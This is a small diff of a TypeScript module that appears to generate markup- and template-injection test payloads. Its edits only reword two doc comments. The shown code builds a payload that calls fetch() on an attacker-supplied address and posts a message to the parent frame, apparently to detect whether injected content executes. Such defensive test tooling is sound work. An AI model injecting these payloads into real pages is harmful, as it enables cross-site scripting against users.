@@ -1,4 +1,4 @@
-/** Markup that tries to run something, to fetch something, or to lead the page elsewhere. `at` is the attacker's address. */
+/** Markup that tries to run something, to fetch something, or to navigate the page. `at` is the attacker's address. */
 export function markupInjections(at: string): readonly string[] {
   const run = `fetch('${at}/ran');parent.postMessage('ran','*')`
   const vectors = [
@@ -59,7 +59,7 @@ export function markupInjections(at: string): readonly string[] {
   ])
 }
 
-/** Placeholder values of a template, in each place where templates have them. */
+/** Malicious placeholder values, in each place where templates have placeholders. */
 export function templateInjections(at: string): readonly string[] {
   const run = `fetch('${at}/ran');parent.postMessage('ran','*')`
   const values = [
